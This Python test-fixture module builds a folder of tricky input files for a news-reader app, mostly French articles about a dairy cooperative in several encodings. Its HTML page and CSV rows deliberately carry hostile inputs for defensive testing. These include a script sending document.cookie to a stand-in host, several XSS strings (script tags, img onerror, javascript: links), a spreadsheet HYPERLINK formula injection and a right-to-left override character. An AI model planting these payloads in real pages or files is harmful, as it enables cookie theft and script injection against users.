"""A folder of files that life and malice bring, for tests of reading and of the app.

``GOOD`` are the article_ids that must be read from it, ``BAD`` the files that must be listed as skipped.
"""

from __future__ import annotations

import csv
import struct
import zlib
from pathlib import Path

GOOD_TEXT = (
    "La coopérative de Vannes embauche\n\n"
    "La coopérative laitière Bréval va créer 45 postes d’ici à l’été, a indiqué sa présidente, Lise Kervran. "
    "« Nous manquons de bras depuis deux ans », a-t-elle expliqué à Vannes.\n\n"
    "L’usine traite 120 000 litres de lait par jour et vise 8 % de croissance en 2024."
)
OTHER_TEXT = (
    "Bréval réclame un quai\n\n"
    "La laiterie Bréval demande à la région 3 millions d’euros pour un quai de chargement. « Sans lui, nos camions "
    "perdent une heure », assure Lise Kervran, présidente de la coopérative."
)
STOP_WORDS = "le la les de du des et ou où que qui ne pas plus ce cette ces il elle nous vous ils " * 40
SENTENCE = "La mairie de Tréguier publie ses comptes : 12 millions d’euros, soit 4 % de plus qu’en 2022. "

HTML_TITLE = "Bréval <script>document.title='pris'</script>s’étend"
HTML = f"""<!doctype html>
<html lang="fr"><head><meta charset="utf-8">
<title>{HTML_TITLE.replace("<", "&lt;")}</title>
<script>document.title = "pris";</script></head>
<body><article><h1>Bréval s’étend</h1>
<p>La laiterie Bréval ouvre un second site à Auray et promet 60 emplois, selon la chambre de commerce.</p>
<script>fetch("https://piege.invalid/" + document.cookie);</script>
<p>On lit sur l’affiche : &lt;script&gt;alert("pris")&lt;/script&gt; et &lt;img src=x onerror=alert(1)&gt;.</p>
<p onclick="alert(1)">Le maire, Yann Guégan, dit attendre 2 millions d’euros de taxes chaque année de ce site.</p>
</article></body></html>
"""

# (source, title, url) of the rows of charges.csv: what must be shown as plain text, or not followed as a link
PAYLOADS = [
    ("<script>alert('source')</script>", "<img src=x onerror=alert('titre')>", "javascript:alert(1)"),
    (
        "**Gras** _penché_",
        "[Lire](javascript:alert(1)) ![](https://piege.invalid/pixel.png)",
        "data:text/html,<b>x</b>",
    ),
    ("$\\frac{1}{2}$ $$x^2$$", "# Titre :material/home: :red[rouge] `code`", "https://exemple.invalid/laiterie"),
    ('=HYPERLINK("https://piege.invalid")', "+33 1 44 | 12 % – 5 $ et 6 $", ""),
    ("Le\u202eénvers\u202c & Cie", "a" * 400, "http://[::1"),
]

GOOD = (
    *(f"charge-{number}" for number in range(1, len(PAYLOADS) + 1)),
    *("copie.txt", "cp1252.txt", "longue.txt", "mots-vides.txt", "original.txt", "page.html", "utf16.txt"),
)
BAD = ("image.txt", "vide.txt")
ORIGINAL, COPY = "copie.txt", "original.txt"  # the first by name is taken as the original


def make_abuse_folder(path: Path, line_bytes: int = 5_000_000) -> Path:
    """Makes the folder, writes every file into it and returns it; ``line_bytes`` is the least of ``longue.txt``."""
    path.mkdir(parents=True, exist_ok=True)
    (path / "vide.txt").write_bytes(b"")
    (path / "image.txt").write_bytes(png())
    (path / "cp1252.txt").write_bytes((GOOD_TEXT + "\n\nUn cœur à 3 €.").encode("cp1252"))
    (path / "utf16.txt").write_bytes(OTHER_TEXT.encode("utf-16"))
    (path / "longue.txt").write_text(SENTENCE * (line_bytes // len(SENTENCE.encode()) + 1), encoding="utf-8")
    (path / "mots-vides.txt").write_text(STOP_WORDS, encoding="utf-8")
    (path / "page.html").write_text(HTML, encoding="utf-8")
    (path / ORIGINAL).write_text(OTHER_TEXT + "\n\nLe conseil votera en mai.", encoding="utf-8")
    (path / COPY).write_text(OTHER_TEXT + "\n\nLe conseil votera en mai.", encoding="utf-8")
    with (path / "charges.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "source", "title", "published", "url", "text"])
        for number, (source, title, url) in enumerate(PAYLOADS, 1):
            text = f"{title}\n\n{GOOD_TEXT}\n\nNuméro {number}, lu chez {source}."
            writer.writerow([f"charge-{number}", source, title, "2024-03-0" + str(number), url, text])
    return path


def png(side: int = 32) -> bytes:
    """A small valid PNG image, grey."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    pixels = b"".join(b"\0" + bytes(range(128, 128 + side)) for _ in range(side))
    body = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body
